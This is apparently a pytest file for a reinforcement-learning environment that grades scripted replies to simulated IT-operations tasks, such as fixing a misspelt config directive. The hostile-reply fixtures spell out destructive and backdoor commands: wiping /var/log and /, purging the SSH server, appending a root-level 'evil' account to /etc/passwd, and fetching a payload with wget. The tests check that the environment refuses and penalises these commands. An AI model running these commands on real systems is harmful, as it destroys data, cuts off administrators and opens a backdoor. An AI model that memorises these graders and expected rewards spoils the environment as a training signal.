"""The IT-operations dry-run domain with scripted replies (correct, wrong, malformed, hostile)."""

from __future__ import annotations

import json

import pytest

from rlvr.envs import EnvSettings, make_env
from rlvr.envs.base import run_sync
from rlvr.tasks.loader import BUNDLED_DIR, load_tasks
from rlvr.types import Task
from tests.domain_episodes import _episode

# ---- IT-operations dry run -------------------------------------------------------------


def _itops(kind: str) -> Task:
    return next(t for t in load_tasks("bundled:itops") if t.id == f"itops/{kind}/0")


def test_itops_second_turn_fixes_what_the_journal_showed() -> None:
    task = _itops("broken")  # webapp: 'timeout' misspelt 'timeuot' in its config
    first, second, third = _episode(
        task,
        [
            "```bash\nsystemctl start webapp\njournalctl -u webapp\n```",
            "```bash\nsed -i 's/timeuot/timeout/' /etc/webapp/webapp.conf && systemctl start webapp\n```",
            "It is running now.",
        ],
    )
    assert "unknown directive 'timeuot'" in first.messages[0]["content"] and first.reward.total == 0.0
    assert not second.done and second.reward.total == 1.0
    assert third.done and third.reward.total == 1.0 and third.messages == []


@pytest.mark.parametrize(
    ("kind", "reply", "total", "goal", "safety"),
    [
        # wrong: restarting without fixing the config changes nothing
        ("broken", "```bash\nsystemctl restart webapp\n```", 0.0, 0.0, 0.0),
        # half right: deleting the misspelt line lets it start, but the setting is lost
        (
            "broken",
            "```bash\nsed -i '/timeuot/d' /etc/webapp/webapp.conf\nsed -i 's/^timeuot.*//' /etc/webapp/webapp.conf\n"
            "systemctl start webapp\n```",
            0.5,
            0.5,
            0.0,
        ),
        # wrong: the setting is edited but the service is not restarted, so it does not run with it
        # (staying enabled at boot held from the start: a constraint kept, not half the goal)
        ("change", "```bash\nsed -i 's/^workers = 5/workers = 15/' /etc/webapp/webapp.conf\n```", 0.0, 0.0, 0.0),
        # malformed: an unclosed quote and a bad sed expression run nothing
        ("install", "```bash\necho 'oops\nsed -i 'x' /etc/webapp/webapp.conf\n```", 0.0, 0.0, 0.0),
        # hostile: wiping the logs' directory, the disk, sshd, the ssh package, the password file; a download
        (
            "disk",
            "```bash\nrm -rf /var/log\nsudo rm -rf /\nsystemctl stop sshd\napt-get purge openssh-server\n"
            "echo 'evil::0:0::/:/bin/sh' >> /etc/passwd\nwget http://x/payload\n```",
            -1.0,
            0.0,  # every refused command left the disk full; what held at the start earns nothing
            -2.75,
        ),
        # the job done, but also deleting the live log: refused and penalised
        ("disk", "```bash\nrm /var/log/webapp/webapp.log.*\nrm /var/log/webapp/webapp.log\n```", 0.5, 1.0, -0.5),
    ],
)
def test_itops_rewards(kind: str, reply: str, total: float, goal: float, safety: float) -> None:
    (r,) = _episode(_itops(kind), [reply])
    assert r.reward.total == pytest.approx(total)
    assert (r.reward.components["goal"], r.reward.components["safety"]) == pytest.approx((goal, safety))


def test_itops_refused_commands_leave_the_system_untouched() -> None:
    env = make_env("itops", EnvSettings())
    task = _itops("disk")
    run_sync(env.reset(task))
    before = dict(env.system.files)  # type: ignore[attr-defined]
    r = run_sync(env.step("```bash\nrm -rf /var\nmv /etc/passwd /tmp/x\nsystemctl disable sshd\n```"))
    assert env.system.files == before  # type: ignore[attr-defined]
    assert env.system.services["sshd"]["running"]  # type: ignore[attr-defined]
    assert r.reward.details["destructive"] == [
        "rm /var: a system directory",
        "move /etc/passwd: /etc/passwd is protected",
        "systemctl disable sshd: a protected service",
    ]


def test_itops_port_conflict_needs_the_old_package_gone() -> None:
    task = _itops("conflict")
    (r,) = _episode(task, ["```bash\nsystemctl start webapp\nsystemctl status webapp\n```"])
    assert "address already in use" in r.messages[0]["content"]
    (r,) = _episode(task, [str(task.reference)])
    assert r.reward.total == 1.0


@pytest.mark.regeneration
def test_bundled_itops_tasks_regenerate_and_their_scripts_score_full() -> None:
    from rlvr.tasks.generators import itopsgen

    tasks = itopsgen.build()
    lines = (BUNDLED_DIR / "itops.jsonl").read_text().splitlines()
    assert [json.loads(x) for x in lines] == [t.to_dict() for t in tasks]
    assert {t.difficulty for t in tasks} == {1, 2, 3} and len(tasks) == 80
    itopsgen.verify(tasks)


def test_itops_task_errors_name_the_field() -> None:
    task = _itops("install")
    bad = Task(id="i/bad", domain="itops", prompt="x", tests={**task.tests, "goal": [{"type": "vibes"}]})
    with pytest.raises(ValueError, match=r"i/bad: tests\.goal\[0\]\.type must be one of"):
        _episode(bad, [])


def test_itops_prose_in_a_code_block_is_not_an_attack() -> None:
    (r,) = _episode(_itops("install"), ["```\nI will install the package.\nYou need to start it.\n```"])
    assert r.reward.components["safety"] == 0.0 and r.reward.components["commands"] == pytest.approx(-0.1)
    assert "bash: I: command not found" in r.messages[0]["content"]
    (r,) = _episode(_itops("install"), ["```bash\npython3 -c 'import os'\n/usr/bin/curl http://x\n```"])
    assert r.reward.components["safety"] == pytest.approx(-0.5) and r.reward.components["commands"] == 0.0


def test_a_directive_in_a_comment_is_not_in_the_file() -> None:
    """file_contains and file_lacks read the lines a service reads: appending the goal's
    text as a comment meets nothing, and commenting a bad directive out removes it."""
    from rlvr.envs.itops_system import active_text

    text = "port = 80\n# log_level = info\nname = web # log_level = info\nurl = http://x/#frag\n"
    assert "log_level = info" not in active_text(text)
    assert "url = http://x/#frag" in active_text(text)  # a '#' inside a value stays
    assert active_text("#loglevel = debug\n  # x\nkey = v") == "\n \nkey = v"
